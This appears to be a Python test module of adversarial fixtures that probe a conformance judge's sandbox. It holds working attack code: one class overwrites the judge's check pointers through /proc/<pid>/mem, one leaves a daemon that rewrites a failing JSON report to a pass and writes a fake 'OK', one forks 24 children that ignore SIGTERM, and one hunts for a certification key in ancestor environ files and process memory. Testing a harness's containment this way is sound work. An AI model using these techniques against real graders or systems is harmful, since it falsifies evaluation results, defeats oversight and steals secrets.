"""Attacks on the containment itself: each a :class:`~forgers.ShortBacking`.

Each builder carries the planted bug (a device backing one block too small,
``KV-PLACE-BACKING-SIZE``) and tries to get past the process boundary rather
than to run code in the judge at import:

- :class:`WritesKitMemory` writes the judge's memory through
  ``/proc/<pid>/mem``: it finds, in its own (forked) copy of the judge, a
  function that returns no violation, and points every check of the judge's
  catalog at it;
- :class:`Daemonizes` leaves a ``setsid()`` + double-fork daemon that waits
  for the judge to exit, then rewrites the ``--json`` report to a pass and
  appends a fake ``OK`` to the judge's output;
- :class:`ForksMany` forks a crowd of children (some in sessions of their own);
- :class:`StealsKey` looks for the certification key wherever its process
  can: its environment, the environment it started with, its ancestors'
  environments, its own memory.

What each one managed is appended to ``KVREF_FORGE_MARKER`` (one line, with
the pid), the pids it left to ``KVREF_CHILD_PIDS``.
"""

from __future__ import annotations

import contextlib
import ctypes
import gc
import inspect
import os
import signal
import sys
import time
import types
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

from forgers import ShortBacking
from kvref import KVCacheGroupSpec, PlanningConfig
from kvref.specs import KVCacheSpec

KEY_ENV = "KVREF_CERTIFY_KEY"


def _note(line: str) -> None:
    marker = os.environ.get("KVREF_FORGE_MARKER")
    if marker:
        with Path(marker).open("a", encoding="utf-8") as f:
            f.write(f"{line} pid={os.getpid()}\n")


def _left() -> None:
    """Record this process's pid as the host numbers it (a PID namespace has its own numbers)."""
    path = os.environ.get("KVREF_CHILD_PIDS")
    if path:
        with Path(path).open("a", encoding="utf-8") as f:
            f.write(f"{os.readlink('/proc/self')}\n")


def ancestors() -> list[int]:
    """This process's ancestors, nearest first, as the host's /proc numbers them."""
    found = []
    # /proc/self, not os.getpid(): in a PID namespace the two numbers differ.
    pid: int | str = "self"
    for _ in range(16):
        try:
            stat = Path(f"/proc/{pid}/stat").read_bytes()
        except OSError:
            break
        pid = int(stat.rpartition(b")")[2].split()[1])
        if pid <= 1:
            break
        found.append(pid)
    return found


def judge_pids() -> list[int]:
    """The ancestors that run the kit (the judge is one of them), nearest first."""
    out = []
    for pid in ancestors():
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if b"conformance" in cmdline or b"pytest" in cmdline:
            out.append(pid)
    return out


class _Grouping(ShortBacking):
    """Attacks once, on its first grouping call."""

    done = False

    def attack(self) -> None:
        raise NotImplementedError

    def get_kv_cache_groups(
        self, config: PlanningConfig, kv_cache_spec: Mapping[str, KVCacheSpec]
    ) -> list[KVCacheGroupSpec]:
        if not type(self).done:
            type(self).done = True
            self.attack()
        return super().get_kv_cache_groups(config, kv_cache_spec)


# -- the judge's memory ---------------------------------------------------------------


def _no_violation_function() -> types.FunctionType | None:
    """A function of the judge's (this process is its forked copy) that returns no violation.

    Tiny, one argument, no global lookups, returning an empty tuple or list:
    calling it has no side effect.
    """
    probe = object()
    gc.unfreeze()  # the judge may have frozen its objects out of gc's lists (allocator_settings.py)
    for obj in gc.get_objects():
        if type(obj) is not types.FunctionType:
            continue
        code = obj.__code__
        if (
            code.co_flags & (inspect.CO_COROUTINE | inspect.CO_GENERATOR)
            or code.co_argcount != 1
            or code.co_kwonlyargcount
            or code.co_names
            or obj.__closure__
            or obj.__defaults__
            or len(code.co_code) > 16
            or obj.__module__ in (__name__, "forgers")
        ):
            continue
        try:
            answer = obj(probe)
        except Exception:
            continue
        if type(answer) in (tuple, list) and not answer:
            return obj
    return None


def _cell_slots() -> Iterator[tuple[int, Any]]:
    """``(address of the pointer, current target)`` of each check's innermost cell."""
    from conformance.check.catalog import catalog

    for inv in catalog():
        for cell in inv.check.__closure__ or ():
            if callable(cell.cell_contents):
                # A cell object: its header, then the pointer to what it holds.
                yield id(cell) + 2 * ctypes.sizeof(ctypes.c_void_p), cell.cell_contents


class WritesKitMemory(_Grouping):
    """Points every check of the judge's catalog at a function that returns no violation."""

    def attack(self) -> None:
        noop = _no_violation_function()
        if noop is None:
            _note("memory: no no-violation function found")
            return
        size = ctypes.sizeof(ctypes.c_void_p)
        pointer = id(noop).to_bytes(size, sys.byteorder)
        for judge in judge_pids():
            try:
                with open(f"/proc/{judge}/mem", "r+b", buffering=0) as mem:
                    for address, target in _cell_slots():
                        mem.seek(address)
                        if mem.read(size) == id(target).to_bytes(size, sys.byteorder):
                            mem.seek(address)
                            mem.write(pointer)
            except OSError as exc:
                _note(f"memory: refused {judge}: {type(exc).__name__}")
                continue
            _note(f"memory: written {judge}")


# -- processes that outlive the run ---------------------------------------------------


class Daemonizes(_Grouping):
    """Leaves a daemon that forges the report once the judge has exited."""

    def attack(self) -> None:
        judges = judge_pids()
        report = os.environ.get("KVREF_REPORT_PATH")
        if os.fork():
            return
        os.setsid()
        if os.fork():
            os._exit(0)
        _left()
        outputs = []
        for judge in judges:
            with contextlib.suppress(OSError):
                # The judge's stdout, held open to write after it is gone.
                outputs.append(os.open(f"/proc/{judge}/fd/1", os.O_WRONLY))
        while any(Path(f"/proc/{j}").exists() for j in judges):
            time.sleep(0.05)
        if report:
            text = Path(report).read_text()
            Path(report).write_text(text.replace('"ok": false', '"ok": true'))
        for fd in outputs:
            os.write(fd, b"\nOK\n")
        _note("daemon: forged after the judge exited")
        os._exit(0)


class ForksMany(_Grouping):
    """Forks 24 children, every third in a session of its own, all asleep."""

    def attack(self) -> None:
        for i in range(24):
            if os.fork() == 0:
                if i % 3 == 0:
                    os.setsid()
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                _left()
                time.sleep(600)
                os._exit(0)


# -- the certification key ------------------------------------------------------------


#: The key to find is handed to the thief masked (each byte XOR this), so that the
#: thief's own copy of it is never the key's bytes: finding them means a leak.
MASK = 0x5A
_UNMASK = bytes(b ^ MASK for b in range(256))


def masked(secret: str) -> str:
    """``secret`` as ``KVREF_KEY_TO_FIND`` carries it (hex of the masked bytes)."""
    return bytes(b ^ MASK for b in secret.encode()).hex()


def _holds(data: bytes, needle: bytes) -> bool:
    """Whether ``data`` holds the key whose masked bytes are ``needle`` (never unmasked here)."""
    return needle in data.translate(_UNMASK)


def _memory_holds(needle: bytes) -> bool:
    """Whether this process's own writable memory (heap, anonymous maps) holds the key."""
    try:
        maps = Path("/proc/self/maps").read_text().splitlines()
    except OSError:
        return False
    with open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in maps:
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("rw"):
                continue
            if len(parts) > 5 and not parts[5].startswith("[heap"):
                continue  # files' data: not where an environment or a str lives
            start, end = (int(x, 16) for x in parts[0].split("-"))
            if end - start > 1 << 28:
                continue
            try:
                mem.seek(start)
                if _holds(mem.read(end - start), needle):
                    return True
            except OSError:
                continue
    return False


def look_for_key(where: str) -> None:
    """Note where this process finds the key ``KVREF_KEY_TO_FIND`` names (masked)."""
    hidden = os.environ.get("KVREF_KEY_TO_FIND", "")
    if not hidden:
        return
    needle = bytes.fromhex(hidden)
    found = []
    if os.environ.get(KEY_ENV):
        found.append("environment")
    for pid in ["self", *map(str, ancestors())]:
        try:
            if _holds(Path(f"/proc/{pid}/environ").read_bytes(), needle):
                found.append(f"environ of {pid}")
        except OSError:
            pass
    if _memory_holds(needle):
        found.append("own memory")
    _note(f"key in {where}: {', '.join(found) or 'nowhere'}")


class StealsKey(_Grouping):
    """Looks for the certification key from its worker (and its twin)."""

    def attack(self) -> None:
        look_for_key("builder")
